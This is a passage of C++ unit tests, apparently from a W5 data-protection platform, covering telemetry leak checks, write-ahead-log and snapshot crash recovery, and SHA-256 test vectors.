  EXPECT_GE(provider_.store().op_counts().puts,
            static_cast<std::uint64_t>(kThreads) * kIters);
}

// ---- Component counters -----------------------------------------------------

TEST(ObservabilityThreadPool, CountsJobsAndQueueDepth) {
  os::ThreadPool pool(2);
  std::atomic<int> ran{0};
  for (int i = 0; i < 32; ++i)
    pool.submit([&ran] { ran.fetch_add(1); });
  pool.drain();
  EXPECT_EQ(ran.load(), 32);
  EXPECT_EQ(pool.jobs_submitted(), 32u);
  EXPECT_EQ(pool.jobs_completed(), 32u);
  EXPECT_EQ(pool.active(), 0u);
  EXPECT_GE(pool.max_queue_depth(), 1u);
  pool.shutdown();
}

TEST(ObservabilityFlowMemo, InvalidationCounterTracksEpochBumps) {
  const std::uint64_t before = difc::FlowCache::instance().invalidations();
  difc::LabelTable::instance().invalidate();
  EXPECT_EQ(difc::FlowCache::instance().invalidations(), before + 1);
}

// ---- Structured log sink ----------------------------------------------------

TEST(ObservabilityLog, JsonSinkEmitsTraceStampedLines) {
  std::ostringstream captured;
  auto previous = util::set_log_sink(util::make_json_sink(captured));
  util::set_log_threshold(util::LogLevel::kDebug);

  util::log_warn("outside request");
  {
    RequestContext context;
    util::log_warn("inside request");
    if (util::kTelemetryEnabled) {
      EXPECT_NE(captured.str().find("\"trace\":\"" + context.id() + "\""),
                std::string::npos);
    }
  }
  util::log_warn("after request");
  const std::string out = captured.str();
  util::set_log_threshold(util::LogLevel::kWarn);
  (void)util::set_log_sink(std::move(previous));

  // Each line is a parseable JSON object.
  std::istringstream lines(out);
  std::string line;
  int parsed_lines = 0;
  while (std::getline(lines, line)) {
    auto parsed = util::Json::parse(line);
    ASSERT_TRUE(parsed.ok()) << line;
    EXPECT_EQ(parsed.value().at("level").as_string(), "warn");
    ++parsed_lines;
  }
  EXPECT_EQ(parsed_lines, 3);
  // Lines logged outside any request carry an empty trace field.
  EXPECT_NE(out.find("\"trace\":\"\",\"message\":\"outside request\""),
            std::string::npos);
}

// ---- The §3.5 leak invariant ------------------------------------------------
// Store a secret, drag it through the whole pipeline (app read, blocked
// export, audit records, spans, diagnostics), then grep every telemetry
// channel for the marker. Telemetry carries routes, label/tag names, and
// codes — never data bytes.
TEST_F(ObservabilityGatewayTest, NoTelemetryChannelCarriesDataBytes) {
  constexpr char kMarker[] = "xyzzy-telemetry-canary-4711";
  std::ostringstream log_lines;
  auto previous = util::set_log_sink(util::make_json_sink(log_lines));
  util::set_log_threshold(util::LogLevel::kDebug);

  ASSERT_EQ(provider_
                .http(Method::kPost, "/data/secrets/s1",
                      std::string(R"({"secret":")") + kMarker + "\"}", alice_)
                .status,
            201);
  // Owner reads it back (allowed), a third party reads it through the
  // app (blocked) — both paths exercise spans, counters, and audit.
  ASSERT_EQ(provider_.http(Method::kGet, "/data/secrets/s1", "", alice_).status,
            200);
  const auto blocked =
      provider_.http(Method::kGet, "/dev/mallory/viewer", "", bob_);
  EXPECT_EQ(blocked.status, 403);
  EXPECT_EQ(blocked.body.find(kMarker), std::string::npos);

  util::set_log_threshold(util::LogLevel::kWarn);
  (void)util::set_log_sink(std::move(previous));

  const auto contains_marker = [&](const std::string& text) {
    return text.find(kMarker) != std::string::npos;
  };
  // 1. /metrics, both formats.
  EXPECT_FALSE(contains_marker(
      provider_.http(Method::kGet, "/metrics", "", alice_).body));
  EXPECT_FALSE(contains_marker(
      provider_.http(Method::kGet, "/metrics?format=json", "", alice_).body));
  // 2. Every retained trace, via the registry itself.
  if (util::kTelemetryEnabled) {
    const std::string blocked_trace =
        blocked.headers.get("X-W5-Trace").value_or("");
    ASSERT_FALSE(blocked_trace.empty());
    const auto dump =
        provider_.http(Method::kGet, "/trace/" + blocked_trace, "", bob_);
    ASSERT_EQ(dump.status, 200);
    EXPECT_FALSE(contains_marker(dump.body));
  }
  // 2b. The debug plane: statusz aggregation, the slow-request flight
  // recorder, and the cross-hop span dump header (§16 surfaces).
  EXPECT_FALSE(contains_marker(
      provider_.http(Method::kGet, "/debug/statusz", "", alice_).body));
  EXPECT_FALSE(contains_marker(
      provider_.http(Method::kGet, "/debug/slowlog", "", alice_).body));
  {
    net::HttpRequest request;
    request.method = Method::kGet;
    request.target = "/data/secrets/s1";
    request.parsed = *net::parse_request_target(request.target);
    request.headers.set("Cookie",
                        std::string(platform::kSessionCookie) + "=" + alice_);
    request.headers.set("X-W5-Trace", "leak-probe-spans-1");
    const auto traced = provider_.handle(request);
    ASSERT_EQ(traced.status, 200);
    EXPECT_FALSE(contains_marker(
        traced.headers.get("X-W5-Spans").value_or("")));
  }
  // 3. The audit log (HTTP surface and full copy).
  EXPECT_FALSE(contains_marker(
      provider_.http(Method::kGet, "/audit?n=1000", "", alice_).body));
  for (const auto& event : provider_.audit().events()) {
    EXPECT_FALSE(contains_marker(event.actor + event.subject + event.detail));
  }
  // 4. Diagnostics emitted while the secret was in flight.
  EXPECT_FALSE(contains_marker(log_lines.str()));
}

}  // namespace
}  // namespace w5
