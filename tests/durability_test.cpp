// Durability plane (DESIGN.md §13): WAL framing and replay, labeled
// snapshots, checkpoint/compaction, and full provider crash recovery.
#include <gtest/gtest.h>

#include <unistd.h>

#include <chrono>
#include <cstdio>
#include <filesystem>
#include <fstream>
#include <string>
#include <thread>
#include <vector>

#include "core/provider.h"
#include "net/fault.h"
#include "store/durable_store.h"
#include "store/snapshot.h"
#include "store/wal.h"
#include "util/clock.h"
#include "util/log.h"

namespace w5::store {
namespace {

namespace fs = std::filesystem;
using net::Method;
using platform::Provider;
using platform::ProviderConfig;

// Unique scratch directory per test, removed on destruction.
class ScratchDir {
 public:
  explicit ScratchDir(const std::string& tag) {
    static int counter = 0;
    path_ = (fs::temp_directory_path() /
             ("w5_durability_" + tag + "_" + std::to_string(::getpid()) + "_" +
              std::to_string(counter++)))
                .string();
    fs::remove_all(path_);
  }
  ~ScratchDir() { fs::remove_all(path_); }
  const std::string& path() const { return path_; }

 private:
  std::string path_;
};

ProviderConfig durable_config(const std::string& dir,
                              DurabilityMode mode = DurabilityMode::kFsync) {
  ProviderConfig config;
  config.durability.enabled = true;
  config.durability.dir = dir;
  config.durability.mode = mode;
  // Tests drive checkpoints explicitly; the background compactor would
  // make WAL contents timing-dependent.
  config.durability.snapshot_every_entries = 0;
  return config;
}

// The round-trip assertion: two providers are "the same provider" exactly
// when their full labeled snapshots dump to identical bytes. Snapshot
// JSON is deterministic (sorted registries, map-ordered objects), so this
// compares every record, file, tag, policy, and account — labels
// included — in one shot.
void expect_same_state(Provider& a, Provider& b) {
  EXPECT_EQ(a.snapshot().dump(), b.snapshot().dump());
}

std::vector<std::string> replay_payloads(const std::string& dir) {
  std::vector<std::string> payloads;
  auto result = WriteAheadLog::replay(
      dir, 1,
      [&](std::uint64_t, const std::string& payload) {
        payloads.push_back(payload);
        return util::ok_status();
      },
      /*repair=*/false);
  EXPECT_TRUE(result.ok());
  return payloads;
}

// ---- WAL unit tests --------------------------------------------------------

TEST(WalTest, AppendFlushReplayRoundTrip) {
  ScratchDir dir("wal_roundtrip");
  auto wal = WriteAheadLog::open(dir.path(), 1, {}).value();
  for (int i = 0; i < 5; ++i) {
    const std::uint64_t seq = wal->append("payload-" + std::to_string(i));
    EXPECT_EQ(seq, static_cast<std::uint64_t>(i + 1));
    ASSERT_TRUE(wal->wait_durable(seq).ok());
  }
  wal->close();

  std::vector<std::pair<std::uint64_t, std::string>> seen;
  auto result = WriteAheadLog::replay(
      dir.path(), 1,
      [&](std::uint64_t seq, const std::string& payload) {
        seen.emplace_back(seq, payload);
        return util::ok_status();
      });
  ASSERT_TRUE(result.ok());
  EXPECT_EQ(result.value().entries, 5u);
  EXPECT_EQ(result.value().last_seq, 5u);
  EXPECT_FALSE(result.value().tail_torn);
  ASSERT_EQ(seen.size(), 5u);
  for (std::size_t i = 0; i < seen.size(); ++i) {
    EXPECT_EQ(seen[i].first, i + 1);
    EXPECT_EQ(seen[i].second, "payload-" + std::to_string(i));
  }
}

TEST(WalTest, ReplayFromSeqSkipsEarlierFrames) {
  ScratchDir dir("wal_from_seq");
  auto wal = WriteAheadLog::open(dir.path(), 1, {}).value();
  for (int i = 0; i < 6; ++i) wal->append("p" + std::to_string(i));
  ASSERT_TRUE(wal->flush().ok());
  wal->close();
  std::uint64_t first_seen = 0, entries = 0;
  auto result = WriteAheadLog::replay(
      dir.path(), 4,
      [&](std::uint64_t seq, const std::string&) {
        if (first_seen == 0) first_seen = seq;
        ++entries;
        return util::ok_status();
      });
  ASSERT_TRUE(result.ok());
  EXPECT_EQ(first_seen, 4u);
  EXPECT_EQ(entries, 3u);
}

TEST(WalTest, TornTailIsTruncatedAndLogIsAppendReady) {
  ScratchDir dir("wal_torn");
  fs::create_directories(dir.path());
  // Hand-build a segment: two complete frames plus a torn third.
  std::string bytes;
  wal_encode_frame(1, "alpha", bytes);
  wal_encode_frame(2, "beta", bytes);
  std::string torn;
  wal_encode_frame(3, "gamma", torn);
  bytes += torn.substr(0, torn.size() - 2);  // lose the final two bytes
  const std::string segment =
      (fs::path(dir.path()) / wal_segment_name(1)).string();
  std::ofstream(segment, std::ios::binary) << bytes;

  auto result = WriteAheadLog::replay(
      dir.path(), 1,
      [](std::uint64_t, const std::string&) { return util::ok_status(); });
  ASSERT_TRUE(result.ok());
  EXPECT_EQ(result.value().entries, 2u);
  EXPECT_EQ(result.value().last_seq, 2u);
  EXPECT_TRUE(result.value().tail_torn);
  EXPECT_EQ(result.value().truncated_bytes, torn.size() - 2);
  // Repair trimmed the file back to the committed prefix...
  EXPECT_EQ(fs::file_size(segment), bytes.size() - (torn.size() - 2));

  // ...so appending seq 3 again produces a clean three-frame log.
  auto wal = WriteAheadLog::open(dir.path(), 3, {}).value();
  wal->append("gamma-take-two");
  wal->close();
  const auto payloads = replay_payloads(dir.path());
  ASSERT_EQ(payloads.size(), 3u);
  EXPECT_EQ(payloads[2], "gamma-take-two");
}

TEST(WalTest, CorruptFrameStopsReplayAtCommittedPrefix) {
  ScratchDir dir("wal_corrupt");
  fs::create_directories(dir.path());
  std::string bytes;
  wal_encode_frame(1, "aaaa", bytes);
  const std::size_t second_start = bytes.size();
  wal_encode_frame(2, "bbbb", bytes);
  wal_encode_frame(3, "cccc", bytes);
  bytes[second_start + kWalHeaderBytes] ^= 0x40;  // flip a payload byte
  const std::string segment =
      (fs::path(dir.path()) / wal_segment_name(1)).string();
  std::ofstream(segment, std::ios::binary) << bytes;

  auto result = WriteAheadLog::replay(
      dir.path(), 1,
      [](std::uint64_t, const std::string&) { return util::ok_status(); });
  ASSERT_TRUE(result.ok());
  EXPECT_EQ(result.value().entries, 1u);
  EXPECT_TRUE(result.value().tail_torn);
  // Frame 3 was intact but unreachable past the corruption — a second
  // replay of the repaired log sees exactly the committed prefix again.
  auto again = WriteAheadLog::replay(
      dir.path(), 1,
      [](std::uint64_t, const std::string&) { return util::ok_status(); });
  ASSERT_TRUE(again.ok());
  EXPECT_EQ(again.value().entries, 1u);
  EXPECT_FALSE(again.value().tail_torn);
  EXPECT_EQ(again.value().truncated_bytes, 0u);
}

TEST(WalTest, RotationAndSegmentGC) {
  ScratchDir dir("wal_rotate");
  auto wal = WriteAheadLog::open(dir.path(), 1, {}).value();
  for (int i = 0; i < 3; ++i) wal->append("old-" + std::to_string(i));
  const std::uint64_t boundary = wal->rotate();
  EXPECT_EQ(boundary, 4u);
  EXPECT_EQ(wal->segment_start(), 4u);
  wal->append("new-0");
  ASSERT_TRUE(wal->flush().ok());

  auto count_segments = [&] {
    std::size_t n = 0;
    for (const auto& entry : fs::directory_iterator(dir.path()))
      if (entry.path().filename().string().starts_with("wal-")) ++n;
    return n;
  };
  EXPECT_EQ(count_segments(), 2u);
  ASSERT_TRUE(wal->remove_segments_below(boundary).ok());
  EXPECT_EQ(count_segments(), 1u);
  wal->close();

  // Replay from the boundary sees only the surviving segment.
  std::uint64_t entries = 0;
  auto result = WriteAheadLog::replay(
      dir.path(), boundary,
      [&](std::uint64_t, const std::string&) {
        ++entries;
        return util::ok_status();
      });
  ASSERT_TRUE(result.ok());
  EXPECT_EQ(entries, 1u);
  EXPECT_EQ(result.value().last_seq, 4u);
}

TEST(WalTest, WeakModesDoNotBlockAndStillPersistOnClose) {
  for (const DurabilityMode mode :
       {DurabilityMode::kNone, DurabilityMode::kInterval}) {
    ScratchDir dir(std::string("wal_mode_") + to_string(mode));
    WalOptions options;
    options.mode = mode;
    auto wal = WriteAheadLog::open(dir.path(), 1, options).value();
    for (int i = 0; i < 10; ++i)
      ASSERT_TRUE(wal->wait_durable(wal->append("m" + std::to_string(i))).ok());
    wal->close();  // drains whatever was pending
    EXPECT_EQ(replay_payloads(dir.path()).size(), 10u) << to_string(mode);
  }
}

TEST(WalTest, AppendAfterCloseReturnsZero) {
  ScratchDir dir("wal_closed");
  auto wal = WriteAheadLog::open(dir.path(), 1, {}).value();
  wal->close();
  EXPECT_EQ(wal->append("too late"), 0u);
  // Must not hang — and must not claim durability either.
  EXPECT_FALSE(wal->wait_durable(0).ok());
}

TEST(WalTest, WriteErrorPoisonsLogAndStopsAcking) {
  ScratchDir dir("wal_io_error");
  WalOptions options;
  options.fault = net::FileFaultPlan::error_at(40);  // tears the third frame
  auto wal = WriteAheadLog::open(dir.path(), 1, options).value();
  // 18-byte frames (16-byte header + 2-byte payload): frames 1 and 2 land
  // whole; frame 3 persists 4 bytes and the write reports the failure.
  ASSERT_TRUE(wal->wait_durable(wal->append("p0")).ok());
  ASSERT_TRUE(wal->wait_durable(wal->append("p1")).ok());
  const std::uint64_t seq = wal->append("p2");
  ASSERT_EQ(seq, 3u);
  EXPECT_FALSE(wal->wait_durable(seq).ok());
  EXPECT_TRUE(wal->failed());
  // Poisoned: nothing further is accepted or acked, and nothing hangs —
  // a torn frame sits mid-segment, so any later write would be beyond
  // the prefix replay can reach.
  EXPECT_EQ(wal->append("p3"), 0u);
  EXPECT_FALSE(wal->flush().ok());
  EXPECT_EQ(wal->rotate(), 0u);
  EXPECT_EQ(wal->durable_seq(), 2u);
  wal->close();

  // Recovery sees exactly the acked prefix; the torn frame is truncated.
  std::vector<std::string> seen;
  auto result = WriteAheadLog::replay(
      dir.path(), 1,
      [&](std::uint64_t, const std::string& payload) {
        seen.push_back(payload);
        return util::ok_status();
      });
  ASSERT_TRUE(result.ok());
  EXPECT_EQ(result.value().last_seq, 2u);
  EXPECT_TRUE(result.value().tail_torn);
  EXPECT_EQ(seen, (std::vector<std::string>{"p0", "p1"}));
}

TEST(WalTest, OversizedAppendIsRejectedUpFront) {
  ScratchDir dir("wal_oversized");
  auto wal = WriteAheadLog::open(dir.path(), 1, {}).value();
  // Written, this frame would be acked durable yet truncated as corrupt
  // by the next replay (len > kWalMaxPayloadBytes) — along with every
  // committed frame after it. It must never reach the log.
  const std::uint64_t seq =
      wal->append(std::string(kWalMaxPayloadBytes + 1, 'x'));
  EXPECT_EQ(seq, 0u);
  EXPECT_FALSE(wal->wait_durable(seq).ok());
  // The log itself stays healthy: later appends commit and replay.
  EXPECT_FALSE(wal->failed());
  ASSERT_TRUE(wal->wait_durable(wal->append("fits")).ok());
  wal->close();
  const auto payloads = replay_payloads(dir.path());
  ASSERT_EQ(payloads.size(), 1u);
  EXPECT_EQ(payloads[0], "fits");
}

TEST(WalTest, ReplayErrorsOnMissingLeadingSegments) {
  ScratchDir dir("wal_gap");
  auto wal = WriteAheadLog::open(dir.path(), 1, {}).value();
  for (int i = 0; i < 3; ++i) wal->append("old-" + std::to_string(i));
  const std::uint64_t boundary = wal->rotate();
  ASSERT_EQ(boundary, 4u);
  wal->append("new-0");
  ASSERT_TRUE(wal->flush().ok());
  wal->close();
  // The snapshot that licensed GC of the first segment rotted: recovery
  // falls back to replaying from seq 1, but frames 1..3 are gone. The
  // hole must be an error, not a silent success over missing mutations.
  fs::remove(fs::path(dir.path()) / wal_segment_name(1));
  auto gap = WriteAheadLog::replay(
      dir.path(), 1,
      [](std::uint64_t, const std::string&) { return util::ok_status(); });
  EXPECT_FALSE(gap.ok());
  // From the boundary itself the log is whole again.
  auto tail = WriteAheadLog::replay(
      dir.path(), boundary,
      [](std::uint64_t, const std::string&) { return util::ok_status(); });
  ASSERT_TRUE(tail.ok());
  EXPECT_EQ(tail.value().entries, 1u);
  EXPECT_EQ(tail.value().last_seq, 4u);
}

TEST(WalTest, FailedRotationUnblocksInsteadOfHanging) {
  ScratchDir dir("wal_rotate_fail");
  auto wal = WriteAheadLog::open(dir.path(), 1, {}).value();
  ASSERT_TRUE(wal->wait_durable(wal->append("one")).ok());
  // Kill the directory out from under the log: the next segment cannot
  // be created, so rotation must fail fast — unblocking checkpoint with
  // an unusable (zero) boundary — rather than stall forever while
  // appends keep acking against a closed file.
  fs::remove_all(dir.path());
  EXPECT_EQ(wal->rotate(), 0u);
  EXPECT_TRUE(wal->failed());
  EXPECT_EQ(wal->append("two"), 0u);
  EXPECT_FALSE(wal->flush().ok());
  wal->close();
}

// ---- Snapshot tests --------------------------------------------------------

TEST(SnapshotTest, WriteLoadRoundTrip) {
  ScratchDir dir("snap_roundtrip");
  fs::create_directories(dir.path());
  ASSERT_TRUE(write_snapshot(dir.path(), 42, "the payload").ok());
  auto loaded = load_latest_snapshot(dir.path());
  ASSERT_TRUE(loaded.ok());
  EXPECT_TRUE(loaded.value().found);
  EXPECT_EQ(loaded.value().boundary, 42u);
  EXPECT_EQ(loaded.value().payload, "the payload");
  // No leftover temp files from the write-rename dance.
  for (const auto& entry : fs::directory_iterator(dir.path()))
    EXPECT_FALSE(entry.path().string().ends_with(".tmp"));
}

TEST(SnapshotTest, CorruptNewestFallsBackToOlderValid) {
  ScratchDir dir("snap_fallback");
  fs::create_directories(dir.path());
  ASSERT_TRUE(write_snapshot(dir.path(), 5, "old state").ok());
  ASSERT_TRUE(write_snapshot(dir.path(), 9, "new state").ok());
  // Flip a payload byte in the newest file; its checksum no longer
  // verifies and the loader must fall back.
  const std::string newest =
      (fs::path(dir.path()) / snapshot_file_name(9)).string();
  std::fstream f(newest, std::ios::in | std::ios::out | std::ios::binary);
  f.seekp(-1, std::ios::end);
  f.put('X');
  f.close();

  auto loaded = load_latest_snapshot(dir.path());
  ASSERT_TRUE(loaded.ok());
  EXPECT_TRUE(loaded.value().found);
  EXPECT_EQ(loaded.value().boundary, 5u);
  EXPECT_EQ(loaded.value().payload, "old state");
}

TEST(SnapshotTest, MissingDirectoryIsJustEmpty) {
  auto loaded = load_latest_snapshot("/tmp/w5_no_such_dir_anywhere");
  ASSERT_TRUE(loaded.ok());
  EXPECT_FALSE(loaded.value().found);
  EXPECT_EQ(loaded.value().boundary, 1u);
}

TEST(SnapshotTest, StaleSnapshotsRemoved) {
  ScratchDir dir("snap_gc");
  fs::create_directories(dir.path());
  for (const std::uint64_t b : {3u, 7u, 9u})
    ASSERT_TRUE(write_snapshot(dir.path(), b, "state@" + std::to_string(b))
                    .ok());
  ASSERT_TRUE(remove_stale_snapshots(dir.path(), 9).ok());
  EXPECT_FALSE(fs::exists(fs::path(dir.path()) / snapshot_file_name(3)));
  EXPECT_FALSE(fs::exists(fs::path(dir.path()) / snapshot_file_name(7)));
  EXPECT_TRUE(fs::exists(fs::path(dir.path()) / snapshot_file_name(9)));
}

TEST(SnapshotTest, CrashDuringWriteLeavesOldSnapshotIntact) {
  ScratchDir dir("snap_crash");
  fs::create_directories(dir.path());
  ASSERT_TRUE(write_snapshot(dir.path(), 5, "survivor").ok());
  // Crash after 10 bytes of the new temp file: the rename never runs.
  auto fault = net::FileFaultPlan::crash_at(10);
  (void)write_snapshot(dir.path(), 9, std::string(1000, 'z'), fault);
  EXPECT_TRUE(fault.crashed());
  auto loaded = load_latest_snapshot(dir.path());
  ASSERT_TRUE(loaded.ok());
  EXPECT_EQ(loaded.value().boundary, 5u);
  EXPECT_EQ(loaded.value().payload, "survivor");
}

// ---- Provider-level recovery ----------------------------------------------

TEST(DurabilityProviderTest, DisabledByDefaultWritesNothing) {
  ScratchDir dir("off");
  util::SimClock clock;
  Provider provider(ProviderConfig{}, clock);
  ASSERT_TRUE(provider.signup("bob", "bobpw").ok());
  EXPECT_EQ(provider.durable(), nullptr);
  EXPECT_EQ(provider.checkpoint().error().code, "wal.checkpoint");
  EXPECT_FALSE(fs::exists(dir.path()));
}

TEST(DurabilityProviderTest, RestartRecoversFullLabeledState) {
  ScratchDir dir("restart");
  util::SimClock clock;
  std::string before;
  {
    Provider provider(durable_config(dir.path()), clock);
    ASSERT_TRUE(provider.durability_status().ok());
    ASSERT_TRUE(provider.signup("bob", "bobpw").ok());
    ASSERT_TRUE(provider.signup("amy", "amypw").ok());
    const std::string bob = provider.login("bob", "bobpw").value();
    ASSERT_EQ(provider.http(Method::kPost, "/data/photos/p1",
                            R"({"title":"durable"})", bob).status,
              201);
    ASSERT_EQ(provider.http(Method::kPost, "/policy",
                            R"({"declassifier":"std/friends"})", bob).status,
              200);
    before = provider.snapshot().dump();
  }

  Provider recovered(durable_config(dir.path()), clock);
  ASSERT_TRUE(recovered.durability_status().ok());
  EXPECT_GT(recovered.recovery_stats().replayed_entries, 0u);
  EXPECT_FALSE(recovered.recovery_stats().tail_torn);
  // Byte-identical state: accounts, tags, policies, files, records —
  // labels travel with the data (paper §1).
  EXPECT_EQ(recovered.snapshot().dump(), before);
  // And it behaves like the same provider: the password verifies and the
  // record reads back under bob's authority.
  const std::string bob = recovered.login("bob", "bobpw").value();
  EXPECT_EQ(recovered.http(Method::kGet, "/data/photos/p1", "", bob).status,
            200);
  // The record still wears bob's secrecy tag.
  const auto record =
      recovered.store().get(os::kKernelPid, "photos", "p1").value();
  const auto* account = recovered.users().find("bob");
  ASSERT_NE(account, nullptr);
  EXPECT_TRUE(record.labels.secrecy.contains(account->secrecy_tag));
}

TEST(DurabilityProviderTest, FilesystemContentAndLabelsSurvive) {
  ScratchDir dir("fs_restart");
  util::SimClock clock;
  difc::ObjectLabels labels_before;
  {
    Provider provider(durable_config(dir.path()), clock);
    ASSERT_TRUE(provider.signup("bob", "bobpw").ok());
    ASSERT_TRUE(provider.fs()
                    .create(os::kKernelPid, "/users/bob/notes.txt",
                            difc::ObjectLabels{}, "first line\n")
                    .ok());
    ASSERT_TRUE(provider.fs()
                    .append(os::kKernelPid, "/users/bob/notes.txt",
                            "second line\n")
                    .ok());
    labels_before =
        provider.fs().stat(os::kKernelPid, "/users/bob").value().labels;
  }
  Provider recovered(durable_config(dir.path()), clock);
  EXPECT_EQ(recovered.fs()
                .read(os::kKernelPid, "/users/bob/notes.txt")
                .value(),
            "first line\nsecond line\n");
  EXPECT_EQ(recovered.fs().stat(os::kKernelPid, "/users/bob").value().labels,
            labels_before);
}

TEST(DurabilityProviderTest, CheckpointCompactsAndRecoveryUsesSnapshot) {
  ScratchDir dir("checkpoint");
  util::SimClock clock;
  std::string before;
  std::uint64_t entries_before_checkpoint = 0;
  {
    Provider provider(durable_config(dir.path()), clock);
    ASSERT_TRUE(provider.signup("bob", "bobpw").ok());
    const std::string bob = provider.login("bob", "bobpw").value();
    ASSERT_EQ(provider.http(Method::kPost, "/data/photos/p1",
                            R"({"n":1})", bob).status,
              201);
    entries_before_checkpoint = provider.durable()->last_seq();
    ASSERT_TRUE(provider.checkpoint().ok());
    ASSERT_EQ(provider.http(Method::kPost, "/data/photos/p2",
                            R"({"n":2})", bob).status,
              201);
    before = provider.snapshot().dump();
  }

  Provider recovered(durable_config(dir.path()), clock);
  ASSERT_TRUE(recovered.durability_status().ok());
  const auto& stats = recovered.recovery_stats();
  EXPECT_TRUE(stats.snapshot_loaded);
  EXPECT_EQ(stats.snapshot_boundary, entries_before_checkpoint + 1);
  // Only the post-checkpoint tail was replayed (one store.put).
  EXPECT_LT(stats.replayed_entries, entries_before_checkpoint);
  EXPECT_EQ(recovered.snapshot().dump(), before);
}

TEST(DurabilityProviderTest, RecoveryChargesNothingTwice) {
  ScratchDir dir("exactly_once");
  util::SimClock clock;
  std::uint64_t total_entries = 0;
  {
    Provider provider(durable_config(dir.path()), clock);
    // Through the gateway, so the run audits and counts like real
    // traffic (provider.signup() is the unaudited convenience path).
    ASSERT_EQ(provider.http(Method::kPost, "/signup",
                            "user=bob&password=bobpw").status,
              201);
    const std::string bob = provider.login("bob", "bobpw").value();
    ASSERT_EQ(provider.http(Method::kPost, "/data/photos/p1",
                            R"({"title":"once"})", bob).status,
              201);
    total_entries = provider.durable()->last_seq();
    EXPECT_GT(provider.audit().size(), 0u);
    EXPECT_GT(provider.metrics().counter("w5_requests_total").value(), 0u);
  }

  // The replayed boot must not re-audit, re-count, or re-charge any of
  // the mutations it re-applies: recovery is exactly-once.
  Provider recovered(durable_config(dir.path()), clock);
  EXPECT_EQ(recovered.recovery_stats().replayed_entries, total_entries);
  EXPECT_EQ(recovered.audit().size(), 0u);
  EXPECT_EQ(recovered.metrics().counter("w5_requests_total").value(), 0u);
  EXPECT_EQ(
      recovered.metrics().counter("w5_wal_recovered_entries_total").value(),
      total_entries);
  // Replay bypassed flow checks by design, but live traffic after
  // recovery is enforced as usual: amy cannot read bob's photo.
  ASSERT_TRUE(recovered.signup("amy", "amypw").ok());
  const std::string amy = recovered.login("amy", "amypw").value();
  EXPECT_EQ(recovered.http(Method::kGet, "/data/photos/p1", "", amy).status,
            403);
}

TEST(DurabilityProviderTest, SecondRecoveryIsIdempotent) {
  ScratchDir dir("idempotent");
  util::SimClock clock;
  {
    Provider provider(durable_config(dir.path()), clock);
    ASSERT_TRUE(provider.signup("bob", "bobpw").ok());
    const std::string bob = provider.login("bob", "bobpw").value();
    ASSERT_EQ(provider.http(Method::kPost, "/data/photos/p1",
                            R"({"v":1})", bob).status,
              201);
  }
  Provider first(durable_config(dir.path()), clock);
  Provider second(durable_config(dir.path()), clock);
  expect_same_state(first, second);
  EXPECT_EQ(first.recovery_stats().last_seq,
            second.recovery_stats().last_seq);
  EXPECT_EQ(second.recovery_stats().truncated_bytes, 0u);
}

TEST(DurabilityProviderTest, AllModesSurviveCleanShutdown) {
  for (const DurabilityMode mode :
       {DurabilityMode::kNone, DurabilityMode::kInterval,
        DurabilityMode::kFsync}) {
    ScratchDir dir(std::string("mode_") + to_string(mode));
    util::SimClock clock;
    {
      Provider provider(durable_config(dir.path(), mode), clock);
      ASSERT_TRUE(provider.signup("bob", "bobpw").ok());
    }
    Provider recovered(durable_config(dir.path(), mode), clock);
    EXPECT_TRUE(recovered.login("bob", "bobpw").ok()) << to_string(mode);
  }
}

TEST(DurabilityProviderTest, UnusableDirFallsBackToInMemory) {
  // A regular file where the durability dir should be: recovery cannot
  // bring the plane up, and the provider runs in-memory instead of
  // refusing to start.
  ScratchDir dir("bad_dir");
  fs::create_directories(dir.path());
  const std::string blocker = dir.path() + "/blocker";
  std::ofstream(blocker) << "not a directory";
  util::SimClock clock;
  // Silence the expected durability-disabled error line.
  auto previous =
      util::set_log_sink([](util::LogLevel, std::string_view) {});
  Provider provider(durable_config(blocker + "/wal"), clock);
  util::set_log_sink(std::move(previous));
  EXPECT_EQ(provider.durable(), nullptr);
  EXPECT_FALSE(provider.durability_status().ok());
  ASSERT_TRUE(provider.signup("bob", "bobpw").ok());
  EXPECT_TRUE(provider.login("bob", "bobpw").ok());
}

TEST(DurabilityProviderTest, BackgroundCompactorCheckpoints) {
  ScratchDir dir("compactor");
  util::SimClock clock;
  ProviderConfig config = durable_config(dir.path());
  config.durability.snapshot_every_entries = 4;
  config.durability.compactor_poll_micros = 1'000;
  Provider provider(config, clock);
  ASSERT_TRUE(provider.signup("bob", "bobpw").ok());  // 5 WAL entries
  // Wait (bounded) for the compactor to notice and checkpoint.
  for (int i = 0; i < 500; ++i) {
    if (provider.metrics().counter("w5_wal_checkpoints_total").value() > 0)
      break;
    std::this_thread::sleep_for(std::chrono::milliseconds(2));
  }
  EXPECT_GT(provider.metrics().counter("w5_wal_checkpoints_total").value(),
            0u);
  bool snapshot_exists = false;
  for (const auto& entry : fs::directory_iterator(dir.path()))
    if (entry.path().filename().string().starts_with("snapshot-"))
      snapshot_exists = true;
  EXPECT_TRUE(snapshot_exists);
}

}  // namespace
}  // namespace w5::store
