#include <gtest/gtest.h>

#include "util/bytes.h"
#include "util/sha256.h"

namespace w5::util {
namespace {

// FIPS 180-4 / NIST test vectors.
TEST(Sha256Test, EmptyString) {
  EXPECT_EQ(sha256_hex(""),
            "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
}

TEST(Sha256Test, Abc) {
  EXPECT_EQ(sha256_hex("abc"),
            "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad");
}

TEST(Sha256Test, TwoBlockMessage) {
  EXPECT_EQ(sha256_hex("abcdbcdecdefdefgefghfghighijhijkijkljklmklmnlmnomnopnopq"),
            "248d6a61d20638b8e5c026930c3e6039a33ce45964ff2167f6ecedd419db06c1");
}

TEST(Sha256Test, MillionAs) {
  Sha256 h;
  const std::string chunk(1000, 'a');
  for (int i = 0; i < 1000; ++i) h.update(chunk);
  const auto digest = h.finish();
  std::string raw(reinterpret_cast<const char*>(digest.data()), digest.size());
  EXPECT_EQ(hex_encode(raw),
            "cdc76e5c9914fb9281a1c7e284d73e67f1809a48a497200e046d39ccc7112cd0");
}

TEST(Sha256Test, IncrementalMatchesOneShot) {
  const std::string data =
      "The provider's only requirements are that the infrastructure be "
      "secured and that the software platform enforce users' policies.";
  Sha256 h;
  for (std::size_t i = 0; i < data.size(); i += 7)
    h.update(std::string_view(data).substr(i, 7));
  const auto digest = h.finish();
  std::string raw(reinterpret_cast<const char*>(digest.data()), digest.size());
  EXPECT_EQ(raw, sha256_raw(data));
}

TEST(Sha256Test, FinishHexMatchesOneShotHex) {
  Sha256 h;
  h.update("abc");
